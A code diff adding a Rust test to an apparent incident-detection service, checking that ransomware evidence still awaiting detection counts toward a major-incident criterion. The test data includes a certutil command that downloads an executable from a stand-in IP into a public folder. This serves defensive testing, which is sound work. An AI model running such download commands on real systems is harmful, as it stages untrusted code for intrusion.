@@ -798,3 +798,52 @@ async fn one_cleared_security_log_alone_is_not_major() {
         assert!(criteria(r).is_empty(), "{:?}", r.major);
     }
 }
+
+#[tokio::test]
+async fn events_still_waiting_for_detection_count_toward_the_criteria() {
+    let w = world().await;
+    w.ingest(vec![process(
+        "ws1.acme.local",
+        "2026-11-27T08:00:00.000000Z",
+        "ACME\\svc-deploy",
+        "C:\\Windows\\System32\\certutil.exe",
+        "certutil -urlcache -split -f http://203.0.113.7/x.exe C:\\Users\\Public\\x.exe",
+    )])
+    .await;
+    let incidents = w.incidents().await;
+    assert_eq!(incidents.len(), 1);
+    let id = incidents[0].incident.id;
+    assert!(criteria(&incidents[0]).is_empty());
+    // Shadow copies deleted and a ransom note on the same host: committed,
+    // not yet taken by detection.
+    let waiting: Vec<Record> = ransomware_records()
+        .into_iter()
+        .filter(|r| String::from_utf8_lossy(&r.bytes).contains("ws1.acme.local"))
+        .collect();
+    assert_eq!(waiting.len(), 3);
+    w.svc
+        .ingest(
+            &w.op,
+            Some("acme"),
+            Intake {
+                source: "test".into(),
+                records: waiting,
+                ..Default::default()
+            },
+        )
+        .await
+        .expect("ingest");
+    let view = w
+        .svc
+        .evaluate_major_now(&w.op, "acme", id)
+        .await
+        .expect("evaluate");
+    let state = view.record.major.as_ref().expect("evaluated");
+    let ransomware = state
+        .criteria
+        .iter()
+        .find(|c| c.criterion == Criterion::Ransomware)
+        .expect("the waiting events give the ransomware criterion");
+    assert_eq!(ransomware.evidence.counts["shadow_copy_deletions"], 1);
+    assert_eq!(ransomware.evidence.counts["ransom_notes"], 1);
+}
